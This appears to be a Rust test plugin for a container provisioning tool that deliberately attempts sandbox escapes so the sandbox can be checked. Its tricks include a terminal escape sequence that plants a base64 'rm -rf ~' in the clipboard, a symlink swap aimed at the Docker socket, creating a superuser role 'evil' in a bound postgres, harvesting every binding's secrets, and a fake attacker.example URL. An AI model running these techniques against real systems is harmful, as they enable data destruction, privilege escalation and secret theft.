//! A plugin built by the author kit that tries, with no `allow` entry, each
//! trick the sandbox promises to stop. `trick` picks one; the other keys
//! shape the one container it plans (a hostile generic container).
use provision_sdk::{export, prelude::*};

#[derive(Deserialize, JsonSchema, Default)]
#[serde(deny_unknown_fields, default)]
struct Config {
    trick: String,
    image: Option<String>,
    command: Option<Vec<String>>,
    /// Bind this host path (as the plugin writes it) at `/mnt`.
    bind: Option<String>,
    bind_writable: bool,
    file: Option<String>,
    health: Option<Vec<String>>,
    hook: Option<Vec<String>>,
    volume: Option<String>,
    /// Mount another service's volume (`SERVICE/VOLUME`) at `/borrowed`.
    borrow_volume: Option<String>,
    network: Option<String>,
    internal: bool,
    build: Option<String>,
    metrics: Option<String>,
    count: usize,
    label: Option<String>,
    url: Option<String>,
    env_value: Option<String>,
    /// A variable name of its own choosing (`DATABASE_URL=postgres://evil`).
    env_key: Option<String>,
    /// A watch rule on this path (contract 0.5.0) that syncs it into
    /// `watch_sync`, or else runs `watch_exec`, hoping the host follows it
    /// out of the project or runs something on its own side.
    watch_path: Option<String>,
    watch_sync: Option<String>,
    watch_exec: Option<Vec<String>>,
    /// How many host ports to publish (`trick = "ports"`).
    ports: u16,
    /// Declared (and ignored): host-level keys a third-party plugin must
    /// not take from the host.
    read_only: bool,
    user: Option<String>,
}

struct Mischief;
impl Plugin for Mischief {
    type Config = Config;
    fn info() -> Info {
        Info::new("mischief", "0.1.0", "Tries every trick")
            .output("loot", "What it got")
            .output("url", "Its address, as it claims it")
            .output("api_url", "Named so that `web` + `api_url` reads as `web-api` + `url`")
            .uses("peek", "Any postgres, hoping for its password", &["postgres"], WaitFor::Started, Need::Optional)
            .collects("everyone", "Every other service, hoping for secrets")
    }

    fn plan(request: &Request, config: Config) -> Result<ServicePlan, PlanError> {
        let mut plan = ServicePlan::default();
        match config.trick.as_str() {
            "sleep" => std::thread::sleep(std::time::Duration::from_secs(3600)),
            "secrets" => {
                for _ in 0..1_000_000 {
                    host::secret("password");
                }
            }
            "huge" => {
                for i in 0..config.count {
                    plan.containers.push(Container::new(format!("c{i}"), "alpine:3"));
                }
                return Ok(plan);
            }
            "escape" => host::log(LogLevel::Warn, "\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{1b}[2Jcleared"),
            "swap" => {
                // A task that, in the folder it may write (`bind`), swaps
                // `sub` for a link to the engine's socket folder (or to
                // `..`), then a server that binds `sub` read-only: if the
                // engine resolved `sub` when the server starts, it would get
                // /var/run and the Docker socket.
                let folder = config.bind.clone().unwrap_or_else(|| "data".into());
                let target = config.url.clone().unwrap_or_else(|| "/var/run".into());
                let script = format!("rm -rf /w/sub && ln -s {target} /w/sub");
                let task = Container::new("swap", "provision-standin/redis:7").command(["sh", "-c", &script]).mount(
                    MountSource::Bind(folder.clone()),
                    "/w",
                    false,
                );
                plan.tasks.push(task);
                let server = Container::new("server", "provision-standin/redis:7").command(["sleep", "infinity"]).mount(
                    MountSource::Bind(format!("{folder}/sub")),
                    "/mnt",
                    true,
                );
                plan.containers.push(server);
                return Ok(plan);
            }
            "poison" => {
                // As soon as it may start, write into the postgres it was
                // given, and into that postgres's data volume, hoping to land
                // in the snapshot every later project starts from.
                let url = request.bindings.iter().find(|b| b.role == "peek").and_then(|b| b.outputs.iter().find(|(k, _)| k == "url"));
                let url = url.map(|(_, v)| v.clone()).unwrap_or_default();
                let script = "until psql \"$PEEK_URL\" -c 'CREATE ROLE evil SUPERUSER LOGIN' -c 'CREATE TABLE poison (x int)'; \
                              do touch /borrowed/poison 2>/dev/null; sleep 0.05; done; touch /borrowed/poison; sleep infinity";
                let mut c = Container::new("server", "provision-standin/postgres:16").command(["sh", "-c", script]).env("PEEK_URL", url);
                if let Some(volume) = &config.borrow_volume {
                    c = c.mount(MountSource::Volume(volume.clone()), "/borrowed", false);
                }
                plan.containers.push(c);
                return Ok(plan);
            }
            "own-bind" => {
                // The project folder, writable, chosen by the plugin itself.
                let c = Container::new("server", "provision-standin/redis:7").mount(MountSource::Bind(".".into()), "/mnt", false);
                plan.containers.push(c);
                return Ok(plan);
            }
            _ => {}
        }
        // What it was given: every binding's outputs, secret or not.
        let loot: Vec<String> =
            request.bindings.iter().flat_map(|b| b.outputs.iter().map(move |(k, v)| format!("{}.{}.{k}={v}", b.role, b.service))).collect();
        plan.output("loot", loot.join(" "));
        plan.output("url", config.url.clone().unwrap_or_else(|| format!("http://{}:8080", request.service)));

        let mut c = Container::new("server", config.image.as_deref().unwrap_or("provision-standin/redis:7"));
        c.command = config.command.clone();
        if let Some(path) = &config.bind {
            c = c.mount(MountSource::Bind(path.clone()), "/mnt", !config.bind_writable);
        }
        if let Some(path) = &config.file {
            c = c.file(path.clone(), "#!/bin/sh\necho owned > /tmp/owned\n", 0o755);
        }
        if let Some(probe) = &config.health {
            c = c.health(HealthCheck::exec(probe.clone()));
        }
        if let Some(hook) = &config.hook {
            c = c.hook("mischief", hook.clone());
        }
        if let Some(volume) = &config.volume {
            plan.volume(volume.clone());
            c = c.mount(MountSource::Volume(volume.clone()), "/data", false);
        }
        if let Some(volume) = &config.borrow_volume {
            c = c.mount(MountSource::Volume(volume.clone()), "/borrowed", false);
        }
        if let Some(network) = &config.network {
            plan.networks.push(Network { name: network.clone(), internal: config.internal });
            c.networks.push(network.clone());
        }
        if let Some(label) = &config.label {
            c.labels.push((label.clone(), "mischief".into()));
        }
        if let Some(context) = &config.build {
            c.image = ImageSource::Build(BuildSpec { context: context.clone(), dockerfile: None, target: None, args: Vec::new() });
        }
        if let Some(path) = &config.metrics {
            plan.metrics("server", 9000, path.clone());
        }
        if let Some(value) = &config.env_value {
            c = c.env(config.env_key.clone().unwrap_or_else(|| "MISCHIEF".into()), value.clone());
        }
        for i in 0..config.ports {
            c.ports.push(Port { container: 10000 + i, host: Some(0), protocol: Protocol::Tcp });
        }
        plan.output("api_url", "http://attacker.example");
        plan.containers.push(c);
        if let Some(path) = &config.watch_path {
            let action = match (&config.watch_sync, &config.watch_exec) {
                (Some(target), _) => WatchAction::Sync(target.clone()),
                (None, Some(command)) => WatchAction::Exec(command.clone()),
                (None, None) => WatchAction::Restart,
            };
            plan.watch(path, [action]);
        }
        Ok(plan)
    }
}
export!(Mischief);
